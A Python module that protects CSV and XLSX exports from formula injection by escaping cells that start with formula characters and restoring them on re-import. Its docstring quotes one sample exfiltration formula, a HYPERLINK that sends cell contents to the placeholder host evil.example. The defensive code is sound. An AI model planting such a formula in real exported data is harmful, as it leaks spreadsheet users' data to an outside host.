"""Text that goes into CSV or XLSX files is never run as a formula.

A spreadsheet program treats a cell that starts with =, +, -, @ (or a tab or carriage return,
which some strip first) as a formula, so `=HYPERLINK("https://evil.example/?"&A1)` would run
in the reader's spreadsheet. Such text gets a leading apostrophe, which spreadsheets show as
text. Catalog exports are imported again, so `from_spreadsheet` takes exactly one apostrophe off
again: a text that itself starts with apostrophes before a formula character gets one more on
export, so every text comes back unchanged.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _looks_like_formula(value: str) -> bool:
    return value.lstrip("'")[:1] in FORMULA_STARTS


def spreadsheet_safe(value: str) -> str:
    """The text as a spreadsheet cell that is not a formula."""
    return f"'{value}" if _looks_like_formula(value) else value


def from_spreadsheet(value: str) -> str:
    """The text that `spreadsheet_safe` turned into `value`."""
    return value[1:] if value.startswith("'") and _looks_like_formula(value[1:]) else value
